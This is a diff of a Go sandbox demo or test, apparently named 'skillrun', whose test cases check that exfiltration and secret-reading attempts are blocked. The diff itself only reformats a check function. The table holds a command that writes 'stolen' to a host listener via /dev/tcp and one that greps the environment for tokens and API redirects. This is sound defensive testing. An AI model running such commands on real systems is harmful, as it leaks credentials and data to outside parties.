@@ -83,7 +83,9 @@ func main() {
 		{fmt.Sprintf("reach a host listener on 127.0.0.1:%d", port), []string{"-c", fmt.Sprintf("echo stolen > /dev/tcp/127.0.0.1/%d", port)}, "blocked",
 			func(out string, code int) bool { return code != 0 && reached.Load() == 0 }},
 		{"read the agent's token and API redirect from the environment", []string{"-c", "env | grep -E 'TOKEN|BASE_URL' || echo none"}, "blocked",
-			func(out string, code int) bool { return !strings.Contains(out, "demo-canary") && !strings.Contains(out, "attacker") }},
+			func(out string, code int) bool {
+				return !strings.Contains(out, "demo-canary") && !strings.Contains(out, "attacker")
+			}},
 	}
 	fmt.Printf("skillrun demo: workspace %s, a planted key in %s/.ssh, a listener on 127.0.0.1:%d\n\n", ws, home, port)
 	failed := 0
